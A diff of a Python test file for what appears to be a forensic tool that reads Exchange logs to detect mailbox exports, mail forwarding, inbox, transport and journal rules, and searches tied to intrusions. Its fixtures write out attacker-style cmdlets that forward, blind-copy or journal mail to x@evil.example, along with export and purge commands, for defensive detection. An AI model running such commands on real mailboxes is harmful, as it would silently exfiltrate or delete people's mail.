@@ -23,11 +23,11 @@ Ran = tuple[str, str, str, str]
 """When, cmdlet, parameters, caller."""
 
 
-def _at(day: int, hour: int, second: int = 0) -> str:
+def at(day: int, hour: int, second: int = 0) -> str:
     return f"{START + timedelta(days=day, hours=hour, seconds=second):%Y-%m-%d %H:%M:%S}"
 
 
-def _managed(ran: Sequence[Ran], *, event: int = 1) -> str:
+def managed(ran: Sequence[Ran], *, event: int = 1) -> str:
     events = []
     for number, (at, cmdlet, told, caller) in enumerate(ran, 1):
         data = "".join(f"<Data>{escape(one)}</Data>" for one in (cmdlet, told, caller))
@@ -38,11 +38,11 @@ def _managed(ran: Sequence[Ran], *, event: int = 1) -> str:
 
 def _export(person: str, day: int, hour: int, second: int = 0, *, caller: str = "gov.example/Admins/adm") -> Ran:
     told = f'-Mailbox "{person}" -FilePath "{FILE.format(person[:3])}"'
-    return _at(day, hour, second), "New-MailboxExportRequest", told, caller
+    return at(day, hour, second), "New-MailboxExportRequest", told, caller
 
 
 def _taken(root: Path, ran: Sequence[Ran], **more: int) -> tuple[Taking, ...]:
-    staged = stage(root, {"EX01/management.xml": _managed(ran, **more)})
+    staged = stage(root, {"EX01/management.xml": managed(ran, **more)})
     return takings_of(staged.archive, lambda text: text or None)
 
 
@@ -53,14 +53,14 @@ def test_exports_and_forwarding_are_read_with_whose_and_where_to(tmp_path: Path)
         [
             _export("anna", 1, 9),
             (
-                _at(2, 9),
+                at(2, 9),
                 "Set-Mailbox",
                 '-Identity "otto" -ForwardingSmtpAddress "smtp:x@evil.example"',
                 "gov/Users/otto",
             ),
-            (_at(3, 9), "New-InboxRule", f'-Mailbox "ines"{rule}', "gov/Users/ines"),
+            (at(3, 9), "New-InboxRule", f'-Mailbox "ines"{rule}', "gov/Users/ines"),
             # without a mailbox named, it is that of whoever ran it
-            (_at(4, 9), "New-InboxRule", rule, "gov/Users/emma"),
+            (at(4, 9), "New-InboxRule", rule, "gov/Users/emma"),
         ],
     )
     told = [(one.kind, one.mailbox, one.where) for one in found]
@@ -82,10 +82,16 @@ def test_exports_and_forwarding_are_read_with_whose_and_where_to(tmp_path: Path)
         ("Set-Mailbox", '-Identity "anna" -ProhibitSendQuota "10GB"'),
         ("New-InboxRule", '-Mailbox "anna" -Name "News" -MoveToFolder "News"'),
         ("Get-MailboxExportRequest", '-Mailbox "anna"'),
+        ("Search-Mailbox", '-Identity "anna" -TargetMailbox "otto" -EstimateResultOnly'),
+        ("Search-Mailbox", '-Identity "anna" -SearchQuery "x" -DeleteContent'),
+        ("New-MailboxSearch", '-Name "s" -EstimateOnly'),
+        ("New-ComplianceSearchAction", '-SearchName "s" -Purge'),
+        ("New-TransportRule", '-Name "footer" -ApplyHtmlDisclaimerText "x"'),
+        ("Set-JournalRule", '-Identity "j" -Enabled $false'),
     ],
 )
 def test_what_takes_no_mail_is_none(ran: tuple[str, str], tmp_path: Path) -> None:
-    assert _taken(tmp_path, [(_at(1, 9), *ran, "gov/Admins/adm")]) == ()
+    assert _taken(tmp_path, [(at(1, 9), *ran, "gov/Admins/adm")]) == ()
 
 
 def test_a_cmdlet_that_failed_took_nothing(tmp_path: Path) -> None:
@@ -95,18 +101,18 @@ def test_a_cmdlet_that_failed_took_nothing(tmp_path: Path) -> None:
 def test_one_act_in_two_logs_is_one(tmp_path: Path) -> None:
     fields = "DateTime,StartTime,AuthenticatedUser,Cmdlet,Parameters,ExecutionResult"
     told = f'-Mailbox "anna" -FilePath "{FILE.format("ann")}"'
-    row = {"DateTime": _at(1, 9, 4).replace(" ", "T") + ".000Z", "AuthenticatedUser": "GOV\\adm",
+    row = {"DateTime": at(1, 9, 4).replace(" ", "T") + ".000Z", "AuthenticatedUser": "GOV\\adm",
            "Cmdlet": "New-MailboxExportRequest", "Parameters": told.replace('"', '""').join('""'),
            "ExecutionResult": "Success"}  # fmt: skip
     log = text_log("Rps Cmdlet Logs", fields, [row])
-    staged = stage(tmp_path, {"EX01/management.xml": _managed([_export("anna", 1, 9)]), "EX01/Rps_Cmdlet_1.LOG": log})
+    staged = stage(tmp_path, {"EX01/management.xml": managed([_export("anna", 1, 9)]), "EX01/Rps_Cmdlet_1.LOG": log})
     (one,) = takings_of(staged.archive, lambda text: text or None)
     assert {ref.table for ref in one.grounds} == {"evtx", "rps_cmdlet"}
 
 
 def _office(root: Path, rows: list[dict[str, object]], ran: Sequence[Ran]) -> Investigation:
     files: dict[str, str | bytes] = {iis_place("EX01", "210104"): log_of(work() + rows)}
-    return reasoned(stage(root, files | {"EX01/management.xml": _managed(ran)}))
+    return reasoned(stage(root, files | {"EX01/management.xml": managed(ran)}))
 
 
 def _console(days: range, *, client: str, hour: int = 10) -> list[dict[str, object]]:
@@ -141,7 +147,7 @@ def test_an_administrator_who_may_is_no_intrusion_and_is_told(
     ran = [_export(one, 41, 3, 20 + place) for place, one in enumerate(people)]
     staged = stage(
         tmp_path,
-        {iis_place("EX01", "210104"): log_of(work() + rows), "EX01/management.xml": _managed(ran)},
+        {iis_place("EX01", "210104"): log_of(work() + rows), "EX01/management.xml": managed(ran)},
     )
     case = reasoned(staged)
     assert case.held == ()
@@ -153,16 +159,16 @@ def test_an_administrator_who_may_is_no_intrusion_and_is_told(
     assert "laid to no known intrusion" in text
 
 
-def _readers(days: range) -> list[dict[str, object]]:
+def readers(days: range) -> list[dict[str, object]]:
     return [row for one in STOLEN for row in visits(one, f"{NETWORK}.14", FOREIGN, days, hour=3)]
 
 
 def test_mail_sent_on_in_an_intruders_session_is_his_and_what_owners_set_is_theirs(tmp_path: Path) -> None:
     told = '-ForwardingSmtpAddress "smtp:x@evil.example"'
-    his = (_at(20, 3, 60), "Set-Mailbox", f'-Identity "{STOLEN[0]}" {told}', f"gov/Users/{STOLEN[0]}")
-    later = (_at(20, 14), "Set-Mailbox", f'-Identity "{STOLEN[1]}" {told}', f"gov/Users/{STOLEN[1]}")
-    other = (_at(20, 3, 60), "Set-Mailbox", f'-Identity "{PEOPLE[9]}" {told}', f"gov/Users/{PEOPLE[9]}")
-    case = _office(tmp_path, _readers(range(20, 44, 3)), [his, later, other])
+    his = (at(20, 3, 60), "Set-Mailbox", f'-Identity "{STOLEN[0]}" {told}', f"gov/Users/{STOLEN[0]}")
+    later = (at(20, 14), "Set-Mailbox", f'-Identity "{STOLEN[1]}" {told}', f"gov/Users/{STOLEN[1]}")
+    other = (at(20, 3, 60), "Set-Mailbox", f'-Identity "{PEOPLE[9]}" {told}', f"gov/Users/{PEOPLE[9]}")
+    case = _office(tmp_path, readers(range(20, 44, 3)), [his, later, other])
     grades = {one.mailbox: one.grade for one in case.exposed}
     assert set(grades) == set(STOLEN)
     assert {name for name, grade in grades.items() if grade is Grade.DOWNLOADED} == {STOLEN[0]}
@@ -184,11 +190,11 @@ def _rule(person: str, at: str, goal: str, *, caller: str = "", cmdlet: str = "N
 )
 def test_mail_sent_on_to_where_his_acts_send_it_is_his(his: int, day: int, exposed: set[str], tmp_path: Path) -> None:
     told = '-ForwardingSmtpAddress "smtp:x@evil.example"'
-    ran = [(_at(20, 3, 60), "Set-Mailbox", f'-Identity "{one}" {told}', f"gov/Users/{one}") for one in STOLEN[:his]]
-    ran.append(_rule(PEOPLE[9], _at(day, 15), "X@evil.example", caller="adm"))
+    ran = [(at(20, 3, 60), "Set-Mailbox", f'-Identity "{one}" {told}', f"gov/Users/{one}") for one in STOLEN[:his]]
+    ran.append(_rule(PEOPLE[9], at(day, 15), "X@evil.example", caller="adm"))
     # that he tries the address as a user makes it none of the house's
     tried = visits("x@evil.example", f"{NETWORK}.14", FOREIGN, [20], hour=3, status=401)
-    case = _office(tmp_path, _readers(range(20, 44, 3)) + tried, ran)
+    case = _office(tmp_path, readers(range(20, 44, 3)) + tried, ran)
     assert {one.mailbox for one in case.exposed if one.grade in EXPOSED} == {*STOLEN, *exposed}
 
 
@@ -196,17 +202,17 @@ def test_mail_sent_on_to_where_his_acts_send_it_is_his(his: int, day: int, expos
     "goal", ["archive@gov.example", '"Archive" [SMTP:Archive@lists.gov.example]', "gov.example/Users/boss", PEOPLE[23]]
 )
 def test_what_goes_within_the_house_draws_nobody_in(goal: str, tmp_path: Path) -> None:
-    ran = [_rule(one, _at(20, 3, 60), goal) for one in STOLEN[:2]]
-    ran += [_rule(one, _at(25, 10), goal) for one in PEOPLE[10:20]]
-    case = _office(tmp_path, _readers(range(20, 44, 3)), ran)
+    ran = [_rule(one, at(20, 3, 60), goal) for one in STOLEN[:2]]
+    ran += [_rule(one, at(25, 10), goal) for one in PEOPLE[10:20]]
+    case = _office(tmp_path, readers(range(20, 44, 3)), ran)
     assert {one.mailbox for one in case.exposed} == set(STOLEN)
 
 
 def test_a_rule_and_its_change_are_of_one_mailbox_and_draw_nobody_in(tmp_path: Path) -> None:
     owner, goal = STOLEN[0], "desk@service.example"
-    ran = [_rule(owner, _at(20, 3, 60), goal), _rule(owner, _at(20, 3, 240), goal, cmdlet="Set-InboxRule")]
-    ran += [_rule(one, _at(25, 10), goal) for one in PEOPLE[10:20]]
-    case = _office(tmp_path, _readers(range(20, 44, 3)), ran)
+    ran = [_rule(owner, at(20, 3, 60), goal), _rule(owner, at(20, 3, 240), goal, cmdlet="Set-InboxRule")]
+    ran += [_rule(one, at(25, 10), goal) for one in PEOPLE[10:20]]
+    case = _office(tmp_path, readers(range(20, 44, 3)), ran)
     assert {one.mailbox for one in case.exposed} == set(STOLEN)
 
 
@@ -222,7 +228,7 @@ def test_two_intrusions_that_send_mail_on_to_one_address_are_one(each: int, intr
     ]
     told = '-ForwardingSmtpAddress "smtp:x@evil.example"'
     ran = [
-        (_at(20, 3, 60), "Set-Mailbox", f'-Identity "{one}" {told}', f"gov/Users/{one}")
+        (at(20, 3, 60), "Set-Mailbox", f'-Identity "{one}" {told}', f"gov/Users/{one}")
         for _, people in groups.values()
         for one in people[:each]
     ]
@@ -242,16 +248,16 @@ _SHARED = PEOPLE[20]
 @pytest.mark.parametrize(
     "ran",
     [
-        pytest.param([_rule(one, _at(20, 3, 60), "archive@gov.example") for one in (*PEOPLE[:2], *PEOPLE[10:12])],
+        pytest.param([_rule(one, at(20, 3, 60), "archive@gov.example") for one in (*PEOPLE[:2], *PEOPLE[10:12])],
                      id="within the house"),
-        pytest.param([_rule(one, _at(20, 3, 60 * place), "desk@service.example", cmdlet=cmdlet)
+        pytest.param([_rule(one, at(20, 3, 60 * place), "desk@service.example", cmdlet=cmdlet)
                       for one in (PEOPLE[0], PEOPLE[10])
                       for place, cmdlet in enumerate(("New-InboxRule", "Set-InboxRule"), 1)],
                      id="one mailbox each, rule and change"),
-        pytest.param([_rule(one, _at(20, 3, 60), "desk@service.example", caller=_SHARED) for one in PEOPLE[21:23]],
+        pytest.param([_rule(one, at(20, 3, 60), "desk@service.example", caller=_SHARED) for one in PEOPLE[21:23]],
                      id="the same acts tied to both"),
-        pytest.param([_rule(PEOPLE[22], _at(9, 10), "desk@service.example"),
-                      *(_rule(one, _at(20, 3, 60), "desk@service.example") for one in (*PEOPLE[:2], *PEOPLE[10:12]))],
+        pytest.param([_rule(PEOPLE[22], at(9, 10), "desk@service.example"),
+                      *(_rule(one, at(20, 3, 60), "desk@service.example") for one in (*PEOPLE[:2], *PEOPLE[10:12]))],
                      id="the house sent mail there before"),
     ],
 )  # fmt: skip
@@ -266,6 +272,52 @@ def test_what_does_not_tell_of_one_hand_makes_no_two_intrusions_one(ran: Sequenc
     case = _office(tmp_path, rows, ran)
     assert [len(one.clients) for one in case.held] == [1, 1]
     assert all(one.takings for one in case.held)
+
+
+@pytest.mark.parametrize(
+    ("told", "holder"),
+    [
+        ('-Identity "p15@gov.example\\Holiday"', "p15@gov.example"),
+        ('-Identity "gov.example/Users/otto\\Holiday/leave"', "otto"),
+        ('-Identity "GOV\\otto\\Holiday"', "gov\\otto"),
+        # a backslash in the rule's name
+        ('-Identity "otto@gov.example\\a\\b"', "otto@gov.example"),
+        ('-Mailbox "emma" -Identity "Holiday"', "emma"),
+        # without a mailbox named, it is that of whoever ran it
+        ('-Identity "Holiday"', "anna"),
+    ],
+)
+def test_a_rule_that_is_changed_is_of_the_mailbox_that_its_name_begins_with(
+    told: str, holder: str, tmp_path: Path
+) -> None:
+    (one,) = _taken(tmp_path, [(at(1, 9), "Set-InboxRule", f'{told} -ForwardTo "x@evil.example"', "gov/Users/anna")])
+    assert one.mailbox == holder
+
+
+@pytest.mark.parametrize(
+    ("cmdlet", "told", "kind", "mailboxes", "part"),
+    [
+        ("New-TransportRule", '-BlindCopyTo "x@evil.example" -SentTo "anna"', TakingKind.FLOW, [""], "SentTo anna"),
+        ("Set-JournalRule", '-Identity "j" -JournalEmailAddress "x@evil.example"', TakingKind.FLOW, [""], ""),
+        ("Search-Mailbox", '-Identity "anna" -TargetMailbox "otto"', TakingKind.COPY, ["anna"], ""),
+        ("Search-Mailbox", '-Identity "anna" -TargetMailbox "otto" -LogOnly', TakingKind.LISTING, ["anna"], ""),
+        (
+            "New-MailboxSearch",
+            '-SourceMailboxes "anna","emma" -TargetMailbox "otto"',
+            TakingKind.COPY,
+            ["anna", "emma"],
+            "",
+        ),
+        ("New-MailboxSearch", '-Name "s" -TargetMailbox "otto"', TakingKind.COPY, [""], ""),
+        ("New-MailboxSearch", '-Name "s" -SourceMailboxes "anna"', TakingKind.SEARCH, [""], ""),
+        ("New-ComplianceSearchAction", '-SearchName "s" -Export', TakingKind.SEARCH, [""], "s"),
+    ],
+)
+def test_copies_searches_and_rules_of_the_organisation_are_read(
+    cmdlet: str, told: str, kind: TakingKind, mailboxes: list[str], part: str, tmp_path: Path
+) -> None:
+    found = _taken(tmp_path, [(at(1, 9), cmdlet, told, "gov/Admins/adm")])
+    assert [(one.kind, one.mailbox, one.part) for one in found] == [(kind, each, part) for each in mailboxes]
 
 
 @pytest.mark.parametrize(
@@ -294,7 +346,7 @@ def _tried(people: Sequence[str], *, day: int = 19, let_in: Sequence[str] = ()) 
 
 
 def test_a_spray_that_let_somebody_in_is_told_as_the_entry(tmp_path: Path) -> None:
-    rows = _tried(PEOPLE, let_in=STOLEN) + _readers(range(20, 44, 3))
+    rows = _tried(PEOPLE, let_in=STOLEN) + readers(range(20, 44, 3))
     case = _office(tmp_path, rows, [])
     (spray,) = case.sprays
     assert (spray.tried, spray.let_in) == (len(PEOPLE), tuple(sorted(STOLEN)))
@@ -322,7 +374,7 @@ _IMAP = "dateTime,sessionId,seqNumber,sIp,cIp,user,duration,rqsize,rpsize,comman
 def _imap(person: str, client: str, days: range, hour: int) -> list[dict[str, object]]:
     return [
         {
-            "dateTime": _at(day, hour, place).replace(" ", "T") + ".000Z",
+            "dateTime": at(day, hour, place).replace(" ", "T") + ".000Z",
             "sessionId": f"{person[:3]}{day}{client[-3:]}",
             "seqNumber": place,
             "sIp": "10.0.0.11:993",
